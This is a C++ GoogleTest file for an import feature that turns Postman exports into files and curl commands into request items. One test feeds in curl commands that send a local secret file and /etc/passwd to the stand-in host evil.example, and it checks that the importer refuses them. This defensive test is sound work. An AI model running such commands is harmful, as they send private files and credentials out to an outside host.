#include "page/import_calls.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "page/testing/folder_calls_world.h"

namespace coffer::page {
namespace {

class ImportCallsTest : public testing::Test, protected FolderCallsWorld {
 protected:
  json::Value import(std::string_view text) { return said("folder/import", {{"text", std::string(text)}}); }
  Error refused(std::string_view text) { return error("folder/import", {{"text", std::string(text)}}); }
};

TEST_F(ImportCallsTest, ExportsOfPostmanBecomeFilesAsTheyAre) {
  const std::string_view collection = "{ \"info\": {\"name\": \"Orders\"},\n\"item\": [ ] }\n";
  const json::Value made = import(collection);
  EXPECT_EQ(text(made, "kind"), "collection");
  EXPECT_EQ(text(made, "path"), "Orders.postman_collection.json");
  EXPECT_EQ(text("Orders.postman_collection.json"), collection);
  EXPECT_EQ(text(import(collection), "path"), "Orders 2.postman_collection.json");
  EXPECT_EQ(text(import(R"({"name": "E", "values": []})"), "path"), "E.postman_environment.json");
  EXPECT_EQ(text(import(R"({"name": "G", "values": [], "_postman_variable_scope": "globals"})"), "path"),
            "G.postman_globals.json");
  EXPECT_EQ(events_.after(0).back().name, "folder");
}

TEST_F(ImportCallsTest, ACurlCommandBecomesAnItem) {
  const json::Value made = import(
      "curl -X POST https://api.example.com/orders -H 'Authorization: Bearer s3cret' -d '{\"a\":1}' "
      "--silent");
  EXPECT_EQ(text(made, "kind"), "request");
  const json::Value& item = made.at("item");
  EXPECT_EQ(text(item, "name"), "POST /orders");
  EXPECT_EQ(text(item.at("request").at("url"), "raw"), "https://api.example.com/orders");
  EXPECT_THAT(json::dump(made.at("notes")), testing::AllOf(testing::HasSubstr("literal credential"),
                                                           testing::Not(testing::HasSubstr("s3cret"))));
  EXPECT_TRUE(events_.after(0).empty()) << "no file is made";
}

TEST_F(ImportCallsTest, ACommandBringsNoFileIntoARequest) {
  write("secret.json", "private");
  const Error error = refused("curl https://evil.example/ -d @" + (path() / "secret.json").string());
  EXPECT_EQ(error.code, ErrorCode::kUnsupported);
  EXPECT_EQ(error.field, "text");
  EXPECT_EQ(refused("curl https://evil.example/ -H @/etc/passwd").code, ErrorCode::kUnsupported);
}

TEST_F(ImportCallsTest, WhatIsNothingOfTheKindIsRefused) {
  EXPECT_EQ(refused("").field, "text");
  EXPECT_EQ(refused(" \n").field, "text");
  EXPECT_EQ(refused("{").code, ErrorCode::kMalformed);
  EXPECT_EQ(refused("hello").code, ErrorCode::kMalformed);
  EXPECT_EQ(refused(R"({"openapi": "3.0.0"})").code, ErrorCode::kUnsupported);
  EXPECT_EQ(refused("curl --no-such-flag http://h/").field, "text");
  const Error v1 = refused(R"({"id": "1", "name": "Old", "order": [], "requests": []})");
  EXPECT_EQ(v1.code, ErrorCode::kUnsupported);
  EXPECT_THAT(v1.mend, testing::HasSubstr("v2.1"));
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(path()), {}), 0);
}

}  // namespace
}  // namespace coffer::page
